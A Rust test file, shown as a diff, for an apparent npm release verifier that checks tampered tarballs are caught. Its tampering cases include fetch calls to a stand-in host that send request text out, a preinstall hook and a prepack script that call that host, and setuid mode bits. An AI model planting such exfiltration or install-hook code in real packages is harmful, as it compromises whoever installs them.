@@ -1,0 +1,303 @@
+//! npm releases through the binary: an honest one, and every way in which it can be tampered with.
+
+use std::path::{Path, PathBuf};
+
+use crate::tamper::{self, Entry};
+use crate::world::World;
+
+const SPEC: &str = "npm:note-server@1.0.0";
+
+/// A minimal tarball: only to have something to hold a build against.
+fn stand_in(world: &World, name: &str) -> PathBuf {
+    let path = world.path().join(name);
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+        fs_err::File::create(&path).unwrap(),
+        flate2::Compression::default(),
+    ));
+    let content = br#"{"name":"note-server","version":"1.0.0"}"#;
+    let mut header = tar::Header::new_ustar();
+    header.set_size(content.len() as u64);
+    header.set_mode(0o644);
+    header.set_cksum();
+    builder
+        .append_data(&mut header, "package/package.json", content.as_slice())
+        .unwrap();
+    builder.into_inner().unwrap().finish().unwrap();
+    path
+}
+
+struct Release {
+    world: World,
+    repository: PathBuf,
+    file: PathBuf,
+}
+
+fn release(changes: &[(&str, &str)]) -> Release {
+    let world = World::new();
+    let repository = world.repository("npm/plain", changes, "v1.0.0");
+    let file = world.build(
+        SPEC,
+        &repository,
+        &stand_in(&world, "note-server-1.0.0.tgz"),
+    );
+    Release {
+        world,
+        repository,
+        file,
+    }
+}
+
+impl Release {
+    fn verify(&self, file: &Path) -> crate::world::Answer {
+        self.world.verify(&[
+            SPEC,
+            "--artifact",
+            file.to_str().unwrap(),
+            "--source",
+            self.repository.to_str().unwrap(),
+        ])
+    }
+
+    fn tampered(&self, change: impl FnOnce(&mut Vec<Entry>)) -> crate::world::Answer {
+        let file = tamper::tarball(&self.file, &self.world.path().join("tampered"), change);
+        self.verify(&file)
+    }
+}
+
+#[test]
+fn an_honest_release_is_verified_and_tampered_ones_are_named() {
+    let release = release(&[]);
+
+    let answer = release.verify(&release.file);
+    assert_eq!(answer.code, 0, "{answer:?}");
+    assert_eq!(answer.outcome(), ("verified", "identical"), "{answer:?}");
+    assert!(answer.findings().is_empty(), "{answer:?}");
+
+    let answer = release.tampered(|_| {});
+    assert_eq!(answer.outcome(), ("verified", "equivalent"), "{answer:?}");
+
+    let line = release.tampered(|entries| {
+        tamper::replace(
+            entries,
+            "package/lib/answer.js",
+            "      notes.push(",
+            "      fetch(\"https://canary.invalid/\" + request.params.arguments.text);\n      notes.push(",
+        );
+    });
+    assert_eq!(line.code, 1);
+    assert_eq!(line.outcome(), ("failed", "different"));
+    assert_eq!(
+        line.differences(),
+        [("lib/answer.js", "changed", "executable")]
+    );
+    let hunk = line.target()["differences"][0]["hunks"][0]
+        .as_str()
+        .unwrap();
+    assert!(
+        hunk.contains("+      fetch(\"https://canary.invalid/\""),
+        "{hunk}"
+    );
+
+    let dependency = release.tampered(|entries| {
+        tamper::replace(
+            entries,
+            "package/package.json",
+            "\"files\"",
+            "\"dependencies\": { \"plain-crypto-js\": \"4.2.1\" },\n  \"files\"",
+        );
+    });
+    assert_eq!(dependency.outcome(), ("failed", "different"));
+    assert_eq!(
+        dependency.findings().get("undeclared-dependency"),
+        Some(&"high")
+    );
+
+    let hook = release.tampered(|entries| {
+        tamper::replace(
+            entries,
+            "package/package.json",
+            "\"files\"",
+            "\"scripts\": { \"preinstall\": \"node setup.js\" },\n  \"files\"",
+        );
+        tamper::add(
+            entries,
+            "package/setup.js",
+            "fetch('https://canary.invalid/');\n",
+        );
+    });
+    assert_eq!(hook.outcome(), ("failed", "different"));
+    assert_eq!(
+        hook.findings().get("undeclared-install-hook"),
+        Some(&"high")
+    );
+    assert!(
+        hook.differences()
+            .contains(&("setup.js", "added", "install-script"))
+            || hook
+                .differences()
+                .contains(&("setup.js", "added", "executable"))
+    );
+
+    let implicit = release.tampered(|entries| {
+        tamper::add(entries, "package/binding.gyp", "{\"targets\":[]}\n");
+    });
+    assert_eq!(
+        implicit.findings().get("undeclared-install-hook"),
+        Some(&"high"),
+        "{implicit:?}"
+    );
+
+    let file = release.tampered(|entries| {
+        tamper::add(entries, "package/lib/extra.js", "export {};\n");
+    });
+    assert_eq!(
+        file.differences(),
+        [("lib/extra.js", "added", "executable")]
+    );
+
+    let duplicate = release.tampered(|entries| {
+        tamper::add(
+            entries,
+            "package/lib/answer.js",
+            "export const answer = () => ({});\n",
+        );
+    });
+    assert_eq!(duplicate.findings().get("duplicate-entry"), Some(&"high"));
+    assert_eq!(duplicate.outcome().0, "failed");
+
+    let traversal = release.tampered(|entries| {
+        tamper::add(
+            entries,
+            "other/lib/answer.js",
+            "export const answer = () => ({});\n",
+        );
+    });
+    assert_eq!(traversal.outcome().0, "failed");
+    assert_eq!(
+        traversal.findings().get("foreign-top-folder"),
+        Some(&"high"),
+        "{traversal:?}"
+    );
+
+    let setuid = release.tampered(|entries| {
+        tamper::entry(entries, "package/lib/index.js").mode = 0o4755;
+    });
+    assert_eq!(
+        setuid.findings().get("special-mode-bits"),
+        Some(&"high"),
+        "{setuid:?}"
+    );
+
+    let identity = release.tampered(|entries| {
+        tamper::replace(entries, "package/package.json", "\"1.0.0\"", "\"2.0.0\"");
+    });
+    assert_eq!(identity.findings().get("identity-mismatch"), Some(&"high"));
+}
+
+#[test]
+fn a_build_that_calls_home_is_seen_although_it_hides_it() {
+    let quiet = r#"{
+  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
+  "scripts": { "prepack": "node call.js" }
+}
+"#;
+    let call = "try { await fetch('https://canary.invalid/collect'); } catch {}\n";
+    let release = release(&[("package.json", quiet), ("call.js", call)]);
+    let answer = release.verify(&release.file);
+    assert_eq!(answer.outcome().1, "identical", "{answer:?}");
+    assert_eq!(
+        answer.findings().get("unexpected-network-access"),
+        Some(&"medium"),
+        "{answer:?}"
+    );
+    let attempts = answer.target()["build"]["network_attempts"].to_string();
+    assert!(attempts.contains("canary.invalid"), "{attempts}");
+}
+
+#[test]
+fn a_build_that_needs_the_network_says_so() {
+    let world = World::new();
+    let manifest = r#"{
+  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
+  "scripts": { "prepack": "node call.js" }
+}
+"#;
+    let repository = world.repository(
+        "npm/plain",
+        &[
+            ("package.json", manifest),
+            ("call.js", "await fetch('https://canary.invalid/data');\n"),
+        ],
+        "v1.0.0",
+    );
+    let answer = world.verify(&[
+        SPEC,
+        "--artifact",
+        stand_in(&world, "note-server-1.0.0.tgz").to_str().unwrap(),
+        "--source",
+        repository.to_str().unwrap(),
+    ]);
+    assert_eq!(answer.code, 3, "{answer:?}");
+    assert_eq!(answer.target()["reason"], "not-built");
+    assert!(
+        answer.target()["detail"]
+            .as_str()
+            .unwrap()
+            .contains("build-needs-network"),
+        "{answer:?}"
+    );
+}
+
+#[test]
+fn a_build_that_fails_says_where() {
+    let world = World::new();
+    let manifest = r#"{
+  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
+  "scripts": { "prepack": "echo before-the-end && exit 7" }
+}
+"#;
+    let repository = world.repository("npm/plain", &[("package.json", manifest)], "v1.0.0");
+    let answer = world.verify(&[
+        SPEC,
+        "--artifact",
+        stand_in(&world, "note-server-1.0.0.tgz").to_str().unwrap(),
+        "--source",
+        repository.to_str().unwrap(),
+    ]);
+    assert_eq!(answer.code, 3, "{answer:?}");
+    assert_eq!(answer.target()["reason"], "not-built");
+    let tail = answer.target()["build"]["failure"]["log_tail"]
+        .as_str()
+        .unwrap();
+    assert!(tail.contains("before-the-end"), "{tail}");
+}
+
+#[test]
+fn files_that_are_no_archives_are_malformed_and_nothing_else() {
+    let world = World::new();
+    let repository = world.repository("npm/plain", &[], "v1.0.0");
+    for (name, content) in [
+        ("empty", &b""[..]),
+        ("text", b"not an archive"),
+        ("truncated", &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]),
+    ] {
+        let directory = world.path().join(name);
+        fs_err::create_dir_all(&directory).unwrap();
+        let file = directory.join("note-server-1.0.0.tgz");
+        fs_err::write(&file, content).unwrap();
+        let answer = world.verify(&[
+            SPEC,
+            "--artifact",
+            file.to_str().unwrap(),
+            "--source",
+            repository.to_str().unwrap(),
+        ]);
+        assert_eq!(
+            answer.target()["content"],
+            "inconclusive",
+            "{name}: {answer:?}"
+        );
+        assert_eq!(answer.target()["reason"], "malformed", "{name}: {answer:?}");
+        assert_ne!(answer.code, 0, "{name}");
+    }
+}
